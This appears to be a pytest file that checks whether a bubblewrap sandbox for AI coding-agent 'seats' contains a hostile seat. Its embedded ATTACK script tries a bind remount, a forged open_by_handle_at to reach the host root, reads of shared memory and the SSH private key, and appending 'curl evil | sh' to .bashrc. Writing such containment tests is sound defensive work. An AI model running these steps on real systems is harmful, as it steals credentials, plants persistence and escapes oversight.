"""A seat holds no privilege in its world, whoever runs failres: root too.

As root without a user namespace bubblewrap kept every capability inside: a seat
remounted the objects bind read-write, opened the host's root by handle, read `~/.ssh`
and appended to `~/.bashrc`, and the task was committed. Without an IPC namespace of
its own a seat read the host's owner-only System V shared memory. Each test here runs a
hostile seat in the world (`mode = "required"`) and asserts the guarantee on the host:
the objects' bytes, the person's ref, the home's files, what the seat managed to see.
They hold for an ordinary user as for root (`.ci/run` runs them as both).
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import git
from project import FIXED, Project
from failres.sandbox.layout import OBJECTS_INSIDE
from failres.sandbox.probe import machine_sandbox

pytestmark = pytest.mark.skipif(not machine_sandbox().available, reason="no seat world on this machine")

FIX = {"write": {"src/calc.py": FIXED}}

# What the hostile seat tries, by system call rather than through `mount` or a shell, so a
# refusal is the kernel's; it writes what it found (an errno, or what it got) as JSON.
ATTACK = r'''
import ctypes, json, os, struct, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
found = {}
status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
found["CapEff"] = status["CapEff"].strip()
found["NoNewPrivs"] = status["NoNewPrivs"].strip()
MS_REMOUNT, MS_BIND = 32, 4096
objects = sys.argv[2].encode()
found["remount"] = 0 if libc.mount(None, objects, None, MS_REMOUNT | MS_BIND, None) == 0 else ctypes.get_errno()
try:
    with open(os.path.join(sys.argv[2], "planted"), "w") as handle:
        handle.write("planted")
    found["planted"] = "written"
except OSError as error:
    found["planted"] = error.errno
class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]
handle, mount_id = Handle(), ctypes.c_int()
handle.size = 128
if libc.name_to_handle_at(-100, b"/usr", ctypes.byref(handle), ctypes.byref(mount_id), 0) != 0:
    found["handle"] = "no handle: %d" % ctypes.get_errno()
else:
    # The handle of /usr, then the same file system's root (inode 2): the host's `/`.
    for name, forge in (("handle", False), ("root_by_handle", True)):
        if forge:
            struct.pack_into("<II", handle.bytes, 0, 2, 0)
        base = os.open("/usr", os.O_RDONLY | os.O_DIRECTORY)
        fd = libc.open_by_handle_at(base, ctypes.byref(handle), os.O_RDONLY | os.O_DIRECTORY)
        found[name] = ctypes.get_errno() if fd < 0 else sorted(os.listdir(fd))[:50]
found["shm"] = [line.split()[1] for line in open("/proc/sysvipc/shm").read().splitlines()[1:]]
home = os.environ["HOME"]
for name in (".ssh/id_ed25519", ".bashrc"):
    try:
        found["read " + name] = open(os.path.join(home, name)).read()
    except OSError as error:
        found["read " + name] = error.errno
try:
    with open(os.path.join(home, ".bashrc"), "a") as rc:
        rc.write("curl evil | sh\n")
    found["append .bashrc"] = "written, inside"
except OSError as error:
    found["append .bashrc"] = error.errno
def runs(*argv):
    try:
        return subprocess.run(argv, capture_output=True, timeout=60).returncode
    except (OSError, subprocess.TimeoutExpired) as error:
        return str(error)
# What must still work inside: git on the borrowed objects, a nested bubblewrap (Codex
# runs its own), and writing where a seat may write.
found["git"] = runs("git", "cat-file", "-e", "HEAD:src/calc.py")
found["nested bwrap"] = runs("bwrap", "--ro-bind", "/", "/", "--dev", "/dev", "--unshare-user", "--unshare-pid",
                             "--unshare-net", "--", "true")
# (The workspace: the fix itself is written there.)
for name, where in (("home", home), ("tmp", "/tmp"), ("dispatch", os.path.dirname(os.environ["FAILRES_PROMPT_FILE"]))):
    try:
        with open(os.path.join(where, "written-by-seat"), "w") as handle:
            handle.write("x")
        found["write " + name] = "ok"
    except OSError as error:
        found["write " + name] = error.errno
json.dump(found, open(sys.argv[1], "w"))
'''


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Project:
    monkeypatch.setattr(Project, "sandbox_mode", "required")
    return Project.create(tmp_path)


def attacked(project: Project, cli) -> tuple[dict, object]:
    """Run a task whose seat makes its fix and tries every attack; what it found, and the run's result."""
    script = project.agents / "attack.py"
    script.write_text(ATTACK)
    found = project.agents / "found.json"
    project.configure(implementer=[{**FIX, "shell": [f"{sys.executable} {script} {found} {OBJECTS_INSIDE}"]}])
    result = cli(project.top, "run", str(project.plan()), "--quiet")
    assert found.exists(), result.out + result.err
    return json.loads(found.read_text()), result


def object_files(project: Project) -> dict[str, str]:
    objects = project.top / ".git" / "objects"
    return {str(p.relative_to(objects)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(objects.rglob("*")) if p.is_file()}


def test_a_seat_has_no_capability_and_cannot_remount_the_borrowed_objects_writable(project: Project, cli):
    main = git(project.top, "rev-parse", "main")
    before = object_files(project)
    found, result = attacked(project, cli)
    assert found["CapEff"] == "0000000000000000", found
    assert found["NoNewPrivs"] == "1"
    assert found["remount"] != 0 and found["planted"] != "written", found
    after = object_files(project)
    assert {name: after.get(name) for name in before} == before  # nothing of the person's objects changed
    assert not any(name.endswith("planted") for name in after)
    assert git(project.top, "rev-parse", "main") == main
    subprocess.run(["git", "fsck", "--no-dangling"], cwd=project.top, check=True, capture_output=True)
    assert result.code == 0, result.out + result.err
    branch = f"failres/{project.slug}/t1"
    assert git(project.top, "diff", "--name-only", "main", branch).split() == ["src/calc.py"]
    assert git(project.top, "show", f"{branch}:src/calc.py") == FIXED


def test_a_seat_cannot_open_the_hosts_file_system_by_handle(project: Project, cli):
    found, _ = attacked(project, cli)
    # open_by_handle_at needs CAP_DAC_READ_SEARCH in the host's namespace: refused (EPERM), forged or not.
    assert found["handle"] == 1 and found.get("root_by_handle", 1) == 1, found


def test_the_hosts_system_v_shared_memory_is_invisible_to_a_seat(project: Project, cli):
    made = subprocess.run(["ipcmk", "-M", "4096", "-p", "0600"], capture_output=True, text=True)
    if made.returncode != 0:
        pytest.skip(f"ipcmk could not make a segment here: {made.stderr.strip()}")
    shmid = made.stdout.split()[-1]
    try:
        assert shmid in [line.split()[1] for line in Path("/proc/sysvipc/shm").read_text().splitlines()[1:]]
        found, _ = attacked(project, cli)
    finally:
        subprocess.run(["ipcrm", "-m", shmid], capture_output=True)
    assert found["shm"] == [], found


def test_the_persons_home_files_are_neither_readable_nor_writable_by_a_seat(project: Project, cli,
                                                                          isolated_home: Path):
    (isolated_home / ".ssh").mkdir()
    (isolated_home / ".ssh" / "id_ed25519").write_text("FAKE-KEY-of-the-person\n")
    (isolated_home / ".bashrc").write_text("# the person's own\n")
    found, _ = attacked(project, cli)
    assert found["read .ssh/id_ed25519"] == 2 and found["read .bashrc"] == 2, found  # ENOENT: a private home
    assert (isolated_home / ".bashrc").read_text() == "# the person's own\n"
    assert not (isolated_home / "written-by-seat").exists()
    assert "FAKE-KEY" not in (project.agents / "found.json").read_text()


def test_git_a_nested_bubblewrap_and_the_seats_own_directories_still_work(project: Project, cli):
    found, result = attacked(project, cli)
    assert found["git"] == 0, found
    assert found["nested bwrap"] == 0, found
    assert {name: found["write " + name] for name in ("home", "tmp", "dispatch")} == dict.fromkeys(
        ("home", "tmp", "dispatch"), "ok")
    assert result.code == 0, result.out + result.err
